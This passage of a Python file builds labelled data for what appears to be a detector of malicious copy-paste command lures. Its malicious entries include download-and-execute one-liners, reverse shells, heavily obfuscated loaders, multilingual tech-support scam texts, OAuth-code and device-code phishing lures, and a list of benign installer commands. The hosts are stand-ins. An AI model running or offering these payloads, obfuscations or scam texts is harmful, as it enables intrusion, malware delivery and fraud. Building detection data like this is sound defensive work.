        "powershell -c \"$x=New-Object -ComObject Msxml2.XMLHTTP;$x.open('GET','https://mx.xml-stage-nine.invalid/m',$false);$x.send();iex $x.responseText\"",
        RUN,
        "windows",
    ),
    (
        "ioc-certutil-decode",
        "cmd /c certutil -urlcache -f https://cd.b64-stage.test/p.txt %TEMP%\\p.txt & certutil -decode %TEMP%\\p.txt %TEMP%\\p.exe & %TEMP%\\p.exe",
        RUN,
        "windows",
    ),
    (
        "ioc-etherhiding-rpc",
        'powershell -c "$b=\'{\\"jsonrpc\\":\\"2.0\\",\\"method\\":\\"eth_call\\",\\"params\\":[{\\"to\\":\\"0x2222222222222222222222222222222222222222\\",\\"data\\":\\"0x6d4ce63c\\"},\\"latest\\"],\\"id\\":1}\';$r=irm https://rpc.chain-node.invalid -Method Post -Body $b -ContentType \'application/json\';iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($r.result.Substring(130))))"',
        RUN,
        "windows",
    ),
    ("ioc-ps-file-remote", "powershell -ep bypass -f \\\\203.0.113.92\\s\\v.ps1", RUN, "windows"),
    (
        "ioc-explorer-webdav-exe",
        "\\\\dav.share-stage.test@SSL\\DavWWWRoot\\Invoice.exe",
        EXP,
        "windows",
    ),
    (
        "ioc-bitsadmin",
        "bitsadmin /transfer x https://bt.bits-stage-nine.invalid/b.exe C:\\Users\\Public\\b.exe",
        RUN,
        "windows",
    ),
    (
        "ioc-wscript-temp",
        "cmd /c curl -so %TEMP%\\v.js https://ws.js-stage.test/v.js && wscript %TEMP%\\v.js",
        RUN,
        "windows",
    ),
    (
        "ioc-conhost-headless",
        'conhost.exe --headless powershell -w h -c "irm 192.0.2.61/h|iex"',
        RUN,
        "windows",
    ),
    (
        "ioc-amos-curl-bash",
        "curl -fsSL https://am.mac-stage-nine.invalid/update | bash",
        TERM,
        "macos",
    ),
    ("ioc-odyssey-osascript", "curl -s https://od.osa-stage.test/o | osascript", TERM, "macos"),
    (
        "ioc-mac-base64-bash",
        f"echo {b64('curl -s https://mb.mac-stage-nine.invalid/x|bash')} | base64 -d | bash",
        TERM,
        "macos",
    ),
    (
        "ioc-mac-tmp-run",
        "curl -so /tmp/.s https://tm.mac-stage-nine.test/s && chmod +x /tmp/.s && /tmp/.s &",
        TERM,
        "macos",
    ),
    ("ioc-linux-wget-sh", "wget -qO- http://198.51.100.163/l.sh | sh", TERM, "linux"),
    (
        "ioc-linux-curl-bash-sudo",
        "curl -sL https://lx.nix-stage.invalid/i | sudo -E bash -",
        TERM,
        "linux",
    ),
    (
        "ioc-python-reverse-shell",
        'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.103",443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")\'',
        TERM,
        "linux",
    ),
    ("ioc-nc-e", "nc -e /bin/sh 192.0.2.224 9001", TERM, "linux"),
    (
        "ioc-gzip-stage",
        f"powershell -c \"iex (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream((New-Object IO.MemoryStream(,[Convert]::FromBase64String('{gzip_b64('irm https://gz.stage-host.test/g|iex')}'))),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()\"",
        RUN,
        "windows",
    ),
    (
        "ioc-reversed-download",
        f"powershell -c \"iex ((-join ('{REV9[::-1]}'[-1..-{len(REV9)}])))\"",
        RUN,
        "windows",
    ),
    (
        "ioc-mshta-javascript-getobject",
        'mshta javascript:a=GetObject("script:https://mj.sct-stage.invalid/m.sct").Exec();close()',
        RUN,
        "windows",
    ),
    (
        "ioc-assembly-load",
        'powershell -c "[Reflection.Assembly]::Load((iwr https://as.net-stage.test/a.dll -UseB).Content).EntryPoint.Invoke($null,$null)"',
        RUN,
        "windows",
    ),
    ("ioc-pcalua", "pcalua -a \\\\198.51.100.15\\pub\\s.exe", RUN, "windows"),
    (
        "ioc-copy-share-run",
        "cmd /c copy \\\\203.0.113.15\\d\\u.exe %TEMP%\\u.exe && %TEMP%\\u.exe",
        RUN,
        "windows",
    ),
    (
        "ioc-curl-exe-run",
        "curl.exe -s -o C:\\ProgramData\\up.exe https://up.exe-stage.invalid/up.exe & C:\\ProgramData\\up.exe",
        RUN,
        "windows",
    ),
    (
        "ioc-powershell-iwr-outfile-msi",
        'powershell -w h "iwr https://mi.msi-stage-nine.test/i.msi -o $env:TEMP\\i.msi; msiexec /i $env:TEMP\\i.msi /qn"',
        RUN,
        "windows",
    ),
    ("ioc-mshta-decimal-ip", f"mshta http://{ip_int('192.0.2.45')}/v", RUN, "windows"),
    ("ioc-regsvr32-ip", "regsvr32 /s /u /i:http://203.0.113.32/s.sct scrobj.dll", RUN, "windows"),
    (
        "ioc-vidar-iwr-exe",
        'powershell -w h -c "iwr https://vd.stealer-cdn.invalid/v.exe -OutFile $env:LOCALAPPDATA\\v.exe; saps $env:LOCALAPPDATA\\v.exe"',
        RUN,
        "windows",
    ),
]:
    ioc(technique, text, target, platform)

# --- (c) fixture-style obfuscations --------------------------------------------------------------

OB_PAGES = [
    "https://www.brightwater-aquarium.example/",
    "https://www.old-mill-antiques.example/",
    "https://www.meadowlark-preschool.example/",
    "https://www.sunset-tattoo.example/",
]
OU = "https://o9.obf-stage.test/q"
ANSI_C = "".join(f"\\x{b:02x}" for b in b"curl -s https://ac9.obf-stage.invalid/a|bash")
OCTAL = "".join(f"\\{b:03o}" for b in b"wget -qO- https://oc9.obf-stage.test/o|sh")
JS_X = "fetch('https://js9.obf-stage.invalid/j').then(r=>r.text()).then(eval)"
OBFUSCATED = [
    ("obf-ps-concat-url", RUN, f'powershell -c "iex (irm {ps_concat(OU, 5)})"'),
    ("obf-ps-concat-iex", RUN, f"powershell -c \"& ('i'+'e'+'x') (irm '{OU}')\""),
    ("obf-ps-format-url", RUN, f'powershell -c "irm {ps_format(OU, 6)} | iex"'),
    (
        "obf-ps-format-cmd",
        RUN,
        f"powershell -c \"&({ps_format('Invoke-Expression', 4)}) (irm '{OU}')\"",
    ),
    (
        "obf-ps-char-codes-url",
        RUN,
        f'powershell -c "irm (-join([char[]]({char_codes(OU)}))) | iex"',
    ),
    (
        "obf-ps-char-codes-whole",
        RUN,
        f'powershell -c "iex (-join([char[]]({char_codes("irm " + OU + " | iex")})))"',
    ),
    (
        "obf-ps-base64-url",
        RUN,
        f"powershell -c \"irm ([Text.Encoding]::ASCII.GetString([Convert]::FromBase64String('{b64(OU)}'))) | iex\"",
    ),
    (
        "obf-ps-base64-whole",
        RUN,
        f"powershell -c \"iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{b64('iwr ' + OU + ' -UseB | iex')}')))\"",
    ),
    (
        "obf-ps-reversed",
        RUN,
        f"powershell -c \"$s='{('irm ' + OU + '|iex')[::-1]}';iex (-join $s[-1..-($s.Length)])\"",
    ),
    (
        "obf-ps-replace-junk",
        RUN,
        f"powershell -c \"iex ('i#r#m {OU.replace('/', '/#')}'.Replace('#',''))\" ; iex $null",
    ),
    ("obf-ps-backticks", RUN, f"powershell -c \"i`e`x (i`r`m '{OU}')\""),
    (
        "obf-ps-mixed-case",
        RUN,
        f"PoWeRsHeLl -NoP -C \"InVoKe-ExPrEsSiOn (InVoKe-ReStMeThOd '{OU}')\"",
    ),
    (
        "obf-ps-gcm-wildcard",
        RUN,
        f"powershell -c \"& (gcm *ke-Ex*ion) (& (gcm *ke-Re*ethod) '{OU}')\"",
    ),
    ("obf-ps-get-command-ix", RUN, f"powershell -c \"$c=Get-Command I*e-E*;&$c (irm '{OU}')\""),
    ("obf-ps-alias-var", RUN, f"powershell -c \"$z='ie'+'x';sal q $z;q (irm '{OU}')\""),
    ("obf-ps-pshome-slice", RUN, f"powershell -c \"& ($PSHOME[21]+$PSHOME[30]+'x') (irm '{OU}')\""),
    (
        "obf-ps-verbosepref-slice",
        RUN,
        f"powershell -c \"&($VerbosePreference.ToString()[1,3]+'x'-join'') (irm '{OU}')\"",
    ),
    (
        "obf-ps-xor",
        RUN,
        f'powershell -c "iex (-join(({xor_codes("irm " + OU + "|iex", 23)})|%{{[char]($_ -bxor 23)}}))"',
    ),
    (
        "obf-ps-unescape-url",
        RUN,
        "powershell -c \"irm ([uri]::UnescapeDataString('https%3A%2F%2Fo9.obf-stage.test%2Fq')) | iex\"",
    ),
    ("obf-ps-hex-octet-ip", RUN, 'powershell -c "irm http://0xc0.0.2.77/p | iex"'),
    (
        "obf-ps-invoke-command-sb",
        RUN,
        f"powershell -c \"Invoke-Command ([scriptblock]::Create((New-Object Net.WebClient).DownloadString('{OU}')))\"",
    ),
    (
        "obf-ps-executioncontext",
        RUN,
        f"powershell -c \"$ExecutionContext.InvokeCommand.InvokeScript((irm '{OU}'))\"",
    ),
    (
        "obf-ps-hex-string",
        RUN,
        f"powershell -c \"iex (-join ('{hex_str('irm ' + OU + '|iex')}' -split '(..)' -ne '' | % {{[char][convert]::ToInt32($_,16)}}))\"",
    ),
    (
        "obf-cmd-carets",
        RUN,
        carets("cmd /c powershell -w h -c irm https://c9.caret-stage.invalid/c | iex"),
    ),
    (
        "obf-cmd-quote-insertion",
        RUN,
        'c"m"d /c p"ow"ersh"ell -w h -c "irm https://q9.quote-stage-nine.test/q|iex"',
    ),
    (
        "obf-cmd-set-call",
        RUN,
        'cmd /v /c "set a=power&& set b=shell&& call !a!!b! -c irm https://s9.set-stage.invalid/s^|iex"',
    ),
    (
        "obf-cmd-substring-slice",
        RUN,
        'cmd /c "set x=ZZpowershellZZ&& call %x:~2,10% -w h -c irm https://sl9.slice-stage.test/s^|iex"',
    ),
    (
        "obf-cmd-comspec-slice",
        RUN,
        'cmd /c "%COMSPEC:~-7,1%%COMSPEC:~-6,1%%COMSPEC:~-5,1% /c mshta https://cs9.slice-stage.invalid/m"',
    ),
    (
        "obf-cmd-for-f-curl",
        RUN,
        "cmd /c for /f \"delims=\" %i in ('curl -s https://f9.for-stage.test/f') do %i",
    ),
    ("obf-cmd-caret-mshta", RUN, "m^s^h^t^a h^t^t^p^s://m9.caret-stage.test/v"),
    ("obf-bash-ansi-c", TERM, f"bash -c $'{ANSI_C}'"),
    (
        "obf-bash-var-indirection",
        TERM,
        "a=cu;b=rl;u=https://vi9.obf-stage.test/v;$a$b -s $u | ba''sh",
    ),
    ("obf-bash-printf-octal", TERM, f"sh -c \"$(printf '{OCTAL}')\""),
    (
        "obf-bash-rev",
        TERM,
        f"echo '{'curl -s https://rv9.obf-stage.invalid/r|sh'[::-1]}' | rev | sh",
    ),
    (
        "obf-bash-xxd",
        TERM,
        f"echo {hex_str('curl -s https://xx9.obf-stage.test/x|bash')} | xxd -r -p | bash",
    ),
    ("obf-bash-ifs", TERM, "curl${IFS}-s${IFS}https://if9.obf-stage.invalid/i|bash"),
    (
        "obf-bash-eval-pieces",
        TERM,
        "p1='curl -s ht';p2='tps://ev9.obf-stage.test/e';p3='|sh';eval \"$p1$p2$p3\"",
    ),
    ("obf-js-bracket-eval", CON, f"window['e'+'v'+'a'+'l'](atob('{b64(JS_X)}'))"),
    (
        "obf-js-fromcharcode",
        CON,
        f"fetch(String.fromCharCode({char_codes('https://fc9.obf-stage.test/f')})).then(r=>r.text()).then(eval)",
    ),
    ("obf-js-constructor-chain", CON, f"[]['at']['constructor'](atob('{b64(JS_X)}'))()"),
    (
        "obf-js-hex-escapes",
        CON,
        "self['\\x65\\x76\\x61\\x6c'](\"fetch('https://hx9.obf-stage.invalid/h').then(r=>r.text()).then(eval)\")",
    ),
]
for i, (technique, target, text) in enumerate(OBFUSCATED):
    platform = {RUN: "windows", TERM: "linux" if i % 2 else "macos", CON: "browser"}[target]
    lure(technique, target, OB_PAGES[i % len(OB_PAGES)], text, "malicious", platform)

# --- (d) texts that are not commands: scams, callbacks, ConsentFix, device codes -----------------

SCAM = "support-scam"
for lang, source, text in [
    (
        "en",
        "https://alert.system-firewall-notice.example/",
        "⚠ MICROSOFT FIREWALL WARNING ⚠\nAccess to this PC has been blocked for security reasons (code DW6VB36).\nSuspicious activity: Trojan.Emotet.Gen. Your Facebook, email and card details may be stolen.\nContact Windows Support immediately: 1-844-555-0192. Closing this page will lock your computer.",
    ),
    (
        "de",
        "https://warnung.pc-schutzzentrum.example/",
        "WARNUNG: Ihr Computer wurde gesperrt (Fehler 0xA9F3).\nEs wurden 3 Viren gefunden, die Ihre Bankdaten stehlen.\nRufen Sie sofort den Microsoft-Support an: 0800 555 2718 (gebührenfrei). Schalten Sie den PC nicht aus.",
    ),
    (
        "fr",
        "https://alerte.securite-windows-fr-nine.example/",
        "ALERTE DE SÉCURITÉ : votre ordinateur est bloqué.\nUn logiciel espion a été détecté et vos mots de passe sont exposés.\nAppelez immédiatement le support technique Microsoft au 01 55 55 03 47. Ne redémarrez pas votre ordinateur.",
    ),
    (
        "es",
        "https://aviso.proteccion-equipo-nine.example/",
        "¡ALERTA! Su equipo ha sido bloqueado por actividad sospechosa.\nSe detectó el virus Zeus en su sistema. Sus datos bancarios están en peligro.\nLlame al soporte técnico de Windows: +34 900 555 184. No cierre esta ventana.",
    ),
    (
        "it",
        "https://avviso.sicurezza-pc-it.example/",
        "ATTENZIONE: il tuo computer è stato bloccato.\nAbbiamo rilevato un trojan che ruba password e dati della carta.\nChiama subito l'assistenza Microsoft al numero 800 555 931. Non spegnere il computer.",
    ),
    (
        "pt",
        "https://alerta.defesa-pc-br.example/",
        "ALERTA DE SEGURANÇA DO WINDOWS\nSeu computador foi bloqueado devido a um vírus detectado (erro #DW6VB36).\nLigue agora para o Suporte Técnico: 0800 555 7720. Não feche esta página nem reinicie o computador.",
    ),
    (
        "nl",
        "https://waarschuwing.pc-beveiliging-nl-nine.example/",
        "WAARSCHUWING: uw computer is geblokkeerd.\nEr is spyware gevonden die uw bankgegevens kan stelen.\nBel direct Microsoft Ondersteuning: 0800 555 0193. Sluit deze pagina niet af.",
    ),
    (
        "pl",
        "https://ostrzezenie.ochrona-komputera.example/",
        "OSTRZEŻENIE: Twój komputer został zablokowany.\nWykryto wirusa, który kradnie hasła do bankowości.\nZadzwoń natychmiast do wsparcia Microsoft: +48 22 555 01 94. Nie wyłączaj komputera.",
    ),
    (
        "tr",
        "https://uyari.bilgisayar-koruma.example/",
        "UYARI: Bilgisayarınız güvenlik nedeniyle kilitlendi.\nBanka bilgilerinizi çalan bir truva atı tespit edildi.\nHemen Microsoft Destek'i arayın: 0850 555 0147. Bu sayfayı kapatmayın.",
    ),
    (
        "ru",
        "https://vnimanie.zashchita-pk.example/",
        "ВНИМАНИЕ! Ваш компьютер заблокирован.\nОбнаружен троян, который крадёт пароли и данные карт.\nСрочно позвоните в службу поддержки Microsoft: 8 800 555 01 36. Не выключайте компьютер.",
    ),
    (
        "ja",
        "https://keikoku.pc-hogo-center-nine.example/",
        "【警告】お使いのパソコンはロックされました。\nウイルスが検出され、個人情報が流出する恐れがあります。\nただちにマイクロソフトサポート 050-5555-0148 までお電話ください。この画面を閉じないでください。",
    ),
    (
        "zh",
        "https://jinggao.diannao-anquan-nine.example/",
        "警告：您的电脑已被锁定！\n检测到木马病毒，您的银行账户和密码可能已泄露。\n请立即拨打微软技术支持热线 400-555-0163。请勿关闭此页面或重启电脑。",
    ),
    (
        "ar",
        "https://tahdhir.hemayat-jihaz-nine.example/",
        "تحذير: تم قفل جهاز الكمبيوتر الخاص بك.\nتم اكتشاف فيروس يسرق كلمات المرور وبيانات البطاقة.\nاتصل فورًا بدعم مايكروسوفت على الرقم 800-555-0172. لا تغلق هذه الصفحة.",
    ),
]:
    lure(f"{SCAM}-{lang}", UNK, source, text, "flagged", "any")

for technique, source, text in [
    (
        "callback-mcafee-renewal-en",
        "https://mail.inbox-viewer-nine.example/m/2231",
        "Your McAfee Total Protection has been renewed for 3 years. Amount charged: $449.99 (Order #MC-55120).\nIf you did not authorise this charge, call our billing department within 24 hours: +1 (808) 555-0117.",
    ),
    (
        "callback-geek-squad-de",
        "https://webmail.postfach-online.example/msg/77",
        "Rechnung Nr. GS-40921: Ihr Geek-Squad-Abo wurde verlängert (389,99 €).\nSie haben das nicht bestellt? Rufen Sie innerhalb von 24 Stunden unseren Kundendienst an, um zu stornieren: 0800 555 3391.",
    ),
    (
        "callback-paypal-es",
        "https://correo.bandeja-web.example/leer/19",
        "PayPal: se ha procesado un pago de 699,00 € a CryptoExchange Ltd.\nSi no reconoce esta transacción, llame inmediatamente a nuestro centro de fraudes: +34 911 555 204.",
    ),
    (
        "callback-norton-pt",
        "https://webmail.caixa-entrada.example/m/8",
        "Fatura Norton 360: renovação automática de R$ 1.899,00 confirmada.\nPara cancelar e receber reembolso, ligue para (11) 5555-0134 em até 24 horas.",
    ),
    (
        "callback-amazon-ja",
        "https://mail.yubin-box.example/v/41",
        "Amazon プライム年会費 ¥39,800 が請求されました。\nお心当たりがない場合は、24時間以内に 0120-555-019 までお電話ください。",
    ),
    (
        "callback-coinbase-tr",
        "https://eposta.gelen-kutusu.example/m/5",
        "Coinbase: hesabınızdan 0,82 BTC çekme talebi alındı.\nBu işlemi siz yapmadıysanız hemen güvenlik ekibimizi arayın: 0212 555 0188.",
    ),
]:
    lure(technique, UNK, source, text, "flagged", "any")

for technique, source, text in [
    (
        "consentfix-localhost-code",
        "https://sharepoint-docs-access.example/sign",
        "http://localhost:53218/?code=0.AXoA7h1kQ2mZ8Ue4jPqLRvWxYz_3nB9cT5dF1gH6kJ2lM4nO8pQ0rS7tU9vW1xY3zA5bC&state=ab91&session_state=4c2e",
    ),
    (
        "consentfix-loopback-callback",
        "https://verify-account-access.example/",
        "http://127.0.0.1:8400/auth/callback?code=M.C532_BAY.2.U.9f4e2d1c-7b3a-4e8f-a1b2-c3d4e5f6a7b8&state=x1",
    ),
    (
        "consentfix-instructions-fr",
        "https://acces-document-securise.example/",
        "Pour ouvrir le document, connectez-vous avec Microsoft. Une fois connecté, la page affichera une erreur « localhost refusé » : copiez l'adresse complète de la barre d'adresse (elle commence par http://localhost) et collez-la ici pour terminer la vérification.",
    ),
    (
        "consentfix-instructions-de",
        "https://freigabe-dokument.example/",
        "Schritt 2: Melden Sie sich an. Danach erscheint eine leere Seite. Kopieren Sie die gesamte URL aus der Adressleiste (http://localhost:…?code=…) und fügen Sie sie unten ein, um den Zugriff zu bestätigen.",
    ),
    (
        "consentfix-azure-powershell",
        "https://teams-file-share.example/open",
        "http://localhost:8400/?code=1.AT0AqW3xYz8kLmNoP4qRs_Tu5vWx-Yz6aB7cD8eF9gH0iJ1kL2mN3oP4qR5sT6uV&state=9d12&session_state=00f1",
    ),
]:
    lure(technique, UNK, source, text, "flagged", "any")

for technique, source, text in [
    (
        "device-code-payroll-en",
        "https://hr-payroll-update.example/",
        "To view your updated payslip, go to https://microsoft.com/devicelogin and enter the code KQ7T-9XWM. This confirms your identity for the payroll portal.",
    ),
    (
        "device-code-it-security-it",
        "https://supporto-it-aziendale.example/",
        "Aggiornamento di sicurezza obbligatorio: apri https://microsoft.com/devicelogin e inserisci il codice H4RP9ZLQ entro 15 minuti, altrimenti l'account verrà sospeso.",
    ),
    (
        "device-code-signal-meeting",
        "https://secure-meeting-invite.example/",
        "Hi, to join our secure conference room please visit microsoft.com/devicelogin and type this one-time code: BX2DMN7Q. It expires in 15 minutes.",
    ),
    (
        "device-code-github-pl",
        "https://github-security-review.example/",
        "Aby potwierdzić dostęp do repozytorium, przejdź do https://github.com/login/device i wpisz kod 7F3A-C9D2.",
    ),
    (
        "device-code-google-ja",
        "https://docs-share-portal.example/",
        "共有ドキュメントを開くには https://www.googleapis.com/device にアクセスし、コード QWER-TYUI を入力してください。",
    ),
]:
    lure(technique, UNK, source, text, "flagged", "any")

# ----------------------------------------------------------------------------------------------
# Benign: (kind, target, source, text)
# ----------------------------------------------------------------------------------------------

BENIGN: list[tuple[str, str, str | None, str]] = []
OWN = "installer-own-page"


def ok(kind: str, target: str, source: str | None, text: str) -> None:
    BENIGN.append((kind, target, source, text))


# --- Installers of real projects not used by the earlier sets, each from its own page ------------
# The command as the project publishes it (README, install page or release page), with that page.
# A Windows installer is pasted into PowerShell (target terminal as well).

OWN_PAGES = [
    ("https://github.com/sharkdp/diskus", "cargo install diskus"),
    ("https://github.com/sharkdp/vivid", "cargo install vivid"),
    ("https://github.com/sharkdp/numbat", "cargo install -f --locked numbat-cli"),
    ("https://github.com/mgdm/htmlq", "cargo install htmlq"),
    ("https://github.com/svenstaro/miniserve", "cargo install --locked miniserve"),
    ("https://github.com/ouch-org/ouch", "cargo install ouch"),
    ("https://github.com/EmbarkStudios/cargo-deny", "cargo install --locked cargo-deny"),
    ("https://github.com/killercup/cargo-edit", "cargo install cargo-edit"),
    ("https://github.com/est31/cargo-udeps", "cargo install cargo-udeps --locked"),
    ("https://github.com/flamegraph-rs/flamegraph", "cargo install flamegraph"),
    ("https://github.com/taiki-e/cargo-llvm-cov", "cargo install cargo-llvm-cov --locked"),
    ("https://github.com/rust-lang/rustlings", "cargo install rustlings"),
    ("https://github.com/itchyny/gojq", "go install github.com/itchyny/gojq/cmd/gojq@latest"),
    (
        "https://github.com/caddyserver/xcaddy",
        "go install github.com/caddyserver/xcaddy/cmd/xcaddy@latest",
    ),
    (
        "https://github.com/huggingface/text-generation-inference",
        "docker run --gpus all --shm-size 1g -p 8080:80 -v $PWD/data:/data ghcr.io/huggingface/text-generation-inference:3.0.1 --model-id $model",
    ),
    ("https://github.com/simonw/sqlite-utils", "pip install sqlite-utils"),
    ("https://github.com/mwaskom/seaborn", "pip install seaborn"),
    ("https://github.com/scikit-learn/scikit-learn", "pip install -U scikit-learn"),
    ("https://github.com/numpy/numpy", "pip install numpy"),
    ("https://github.com/fastapi/typer", "pip install typer"),
    ("https://github.com/Textualize/rich", "python -m pip install rich"),
    ("https://github.com/pydantic/pydantic", "pip install -U pydantic"),
    ("https://github.com/psf/requests", "python -m pip install requests"),
    ("https://github.com/PyCQA/flake8", "python -m pip install flake8"),
    ("https://github.com/python/mypy", "python3 -m pip install -U mypy"),
    ("https://github.com/tox-dev/tox", "pip install tox"),
    ("https://github.com/wntrblm/nox", "pipx install nox"),
    ("https://github.com/pytest-dev/pytest", "pip install -U pytest"),
    ("https://github.com/wandb/wandb", "pip install wandb && wandb login"),
    ("https://github.com/supabase/cli", "npm i supabase --save-dev"),
    (
        "https://github.com/angular/angular-cli",
        "npm install -g @angular/cli && ng new my-first-project",
    ),
    ("https://github.com/ionic-team/ionic-cli", "npm install -g @ionic/cli"),
    ("https://github.com/fastify/fastify", "npm init fastify"),
    ("https://github.com/expressjs/express", "npm install express"),
    ("https://github.com/prisma/prisma", "npm install prisma --save-dev && npx prisma init"),
    ("https://github.com/prettier/prettier", "npm install --save-dev --save-exact prettier"),
    ("https://github.com/eslint/eslint", "npm init @eslint/config@latest"),
    ("https://github.com/jestjs/jest", "npm install --save-dev jest"),
    ("https://github.com/vitest-dev/vitest", "npm install -D vitest"),
    ("https://github.com/puppeteer/puppeteer", "npm i puppeteer"),
    ("https://github.com/webpack/webpack", "npm install --save-dev webpack webpack-cli"),
    ("https://github.com/parcel-bundler/parcel", "npm install --save-dev parcel"),
    ("https://github.com/lerna/lerna", "npx lerna init"),
    (
        "https://github.com/changesets/changesets",
        "npm install --save-dev @changesets/cli && npx changeset init",
    ),
    ("https://github.com/typicode/husky", "npm install --save-dev husky && npx husky init"),
    ("https://github.com/cloudflare/workers-sdk", "npm create cloudflare@latest"),
    ("https://github.com/yarnpkg/berry", "corepack enable && yarn set version stable"),
    ("https://github.com/nodejs/corepack", "npm install -g corepack"),
    ("https://github.com/drush-ops/drush", "composer require drush/drush"),
    ("https://github.com/phpstan/phpstan", "composer require --dev phpstan/phpstan"),
    ("https://github.com/sphinx-doc/sphinx", "pip install -U sphinx"),
    ("https://github.com/borgbackup/borg", "pip install borgbackup"),
    ("https://github.com/newren/git-filter-repo", "pip3 install git-filter-repo"),
    ("https://github.com/so-fancy/diff-so-fancy", "npm i -g diff-so-fancy"),
    (
        "https://github.com/SonarSource/sonarqube",
        "docker run -d --name sonarqube -p 9000:9000 sonarqube:latest",
    ),
    (
        "https://github.com/rabbitmq/rabbitmq-server",
        "docker run -it --rm --name rabbitmq -p 5672:5672 -p 15672:15672 rabbitmq:4.0-management",
    ),
    ("https://github.com/vi/websocat", "cargo install --features=ssl websocat"),
    ("https://github.com/angr/angr", "pip install angr"),
    ("https://github.com/frida/frida", "pip install frida-tools"),
    ("https://github.com/Sycnex/Windows10Debloater", "iwr -useb https://git.io/debloat|iex"),
    ("https://github.com/Genymobile/scrcpy", "winget install --exact Genymobile.scrcpy"),
    ("https://github.com/bitwarden/clients", "npm install -g @bitwarden/cli"),
    ("https://github.com/keycastr/keycastr", "brew install --cask keycastr"),
    ("https://github.com/objective-see/LuLu", "brew install --cask lulu"),
    ("https://github.com/dwarvesf/hidden", "brew install --cask hiddenbar"),
    ("https://github.com/MrKai77/Loop", "brew install --cask loop"),
    ("https://github.com/langflow-ai/langflow", "uv pip install langflow"),
    ("https://github.com/huggingface/diffusers", "pip install --upgrade diffusers[torch]"),
    ("https://github.com/huggingface/accelerate", "pip install accelerate"),
    ("https://github.com/huggingface/datasets", "pip install datasets"),
    ("https://github.com/openai/openai-python", "pip install openai"),
    ("https://github.com/ollama/ollama-python", "pip install ollama"),
    ("https://github.com/stanfordnlp/dspy", "pip install dspy"),
    ("https://github.com/pydantic/pydantic-ai", "pip install pydantic-ai"),
    ("https://github.com/guidance-ai/guidance", "pip install guidance"),
    ("https://github.com/nltk/nltk", "pip install --user -U nltk"),
    ("https://github.com/keras-team/keras", "pip install --upgrade keras"),
    ("https://github.com/tensorflow/tensorflow", "pip install tensorflow"),
    ("https://github.com/ultralytics/ultralytics", "pip install ultralytics"),
    ("https://github.com/opencv/opencv-python", "pip install opencv-python"),
    ("https://github.com/matplotlib/matplotlib", "python -m pip install -U matplotlib"),
    ("https://github.com/bokeh/bokeh", "pip install bokeh"),
    ("https://github.com/sympy/sympy", "pip install sympy"),
    ("https://github.com/networkx/networkx", "pip install networkx[default]"),
    ("https://github.com/dmlc/xgboost", "pip install xgboost"),
    ("https://github.com/microsoft/LightGBM", "pip install lightgbm"),
    ("https://github.com/catboost/catboost", "pip install catboost"),
    ("https://github.com/shap/shap", "pip install shap"),
    ("https://github.com/SeleniumHQ/selenium", "pip install selenium"),
    ("https://github.com/Kozea/WeasyPrint", "pip install weasyprint"),
    ("https://github.com/pyinstaller/pyinstaller", "pip install -U pyinstaller"),
    ("https://github.com/beeware/briefcase", "python -m pip install briefcase"),
    ("https://github.com/kivy/kivy", 'python -m pip install "kivy[base]" kivy_examples'),
    ("https://github.com/flet-dev/flet", "pip install 'flet[all]' --upgrade"),
    ("https://github.com/pygame/pygame", "python3 -m pip install -U pygame --user"),
    ("https://github.com/kitao/pyxel", "pip install -U pyxel"),
    ("https://github.com/sanic-org/sanic", "pip install sanic"),
    ("https://github.com/litestar-org/litestar", "pip install litestar"),
    ("https://github.com/benoitc/gunicorn", "pip install gunicorn"),
    ("https://github.com/sqlalchemy/sqlalchemy", "pip install SQLAlchemy"),
    ("https://github.com/tortoise/tortoise-orm", "pip install tortoise-orm"),
    ("https://github.com/encode/django-rest-framework", "pip install djangorestframework"),
    ("https://github.com/wagtail/wagtail", "pip install wagtail && wagtail start mysite"),
    ("https://github.com/zauberzeug/nicegui", "python3 -m pip install nicegui"),
    ("https://github.com/mitsuhiko/insta", "cargo install cargo-insta"),
    (
        "https://github.com/goauthentik/authentik",
        "wget https://goauthentik.io/docker-compose.yml && docker compose pull && docker compose up -d",
    ),
    (
        "https://github.com/FreshRSS/FreshRSS",
        "docker run -d --restart unless-stopped --log-opt max-size=10m -p 8080:80 -e TZ=Europe/Paris --name freshrss freshrss/freshrss",
    ),
    (
        "https://github.com/excalidraw/excalidraw",
        "docker run --rm -dit --name excalidraw -p 5000:80 excalidraw/excalidraw:latest",
    ),
    ("https://github.com/aria2/aria2", "sudo apt install aria2"),
    ("https://github.com/tesseract-ocr/tesseract", "sudo apt install tesseract-ocr"),
    ("https://github.com/pbatard/rufus", "winget install Rufus.Rufus"),
    ("https://github.com/M2Team/NanaZip", "winget install M2Team.NanaZip"),
    (
        "https://github.com/233boy/sing-box",
        "bash <(wget -qO- -o- https://github.com/233boy/sing-box/raw/main/install.sh)",
    ),
    (
        "https://github.com/vaxilu/x-ui",
        "bash <(curl -Ls https://raw.githubusercontent.com/vaxilu/x-ui/master/install.sh)",
    ),
    (
        "https://github.com/amir20/dozzle",
        "docker run --name dozzle -d --volume=/var/run/docker.sock:/var/run/docker.sock -p 8080:8080 amir20/dozzle:latest",
    ),
    ("https://github.com/ekzhang/sshx", "curl -sSf https://sshx.io/get | sh"),
    ("https://github.com/smallstep/cli", "brew install step"),
    (
        "https://github.com/cloudflare/cfssl",
        "go install github.com/cloudflare/cfssl/cmd/...@latest",
    ),
    ("https://github.com/stedolan/jq", "brew install jq"),
    (
        "https://github.com/hashicorp/consul",
        "brew tap hashicorp/tap && brew install hashicorp/tap/consul",
    ),
    (
        "https://github.com/hashicorp/nomad",
        "brew tap hashicorp/tap && brew install hashicorp/tap/nomad",
    ),
    (
        "https://github.com/kubernetes/kompose",
        "curl -L https://github.com/kubernetes/kompose/releases/download/v1.34.0/kompose-linux-amd64 -o kompose && chmod +x kompose && sudo mv ./kompose /usr/local/bin/kompose",
    ),
    (
        "https://github.com/open-policy-agent/opa",
        "curl -L -o opa https://openpolicyagent.org/downloads/latest/opa_linux_amd64_static && chmod 755 ./opa",
    ),
    (
        "https://github.com/moby/buildkit",
        "docker run -d --name buildkitd --privileged moby/buildkit:latest",
    ),
    (
        "https://github.com/GoogleContainerTools/kaniko",
        "docker run -v $(pwd):/workspace gcr.io/kaniko-project/executor:latest --dockerfile=/workspace/Dockerfile --context=dir:///workspace --no-push",
    ),
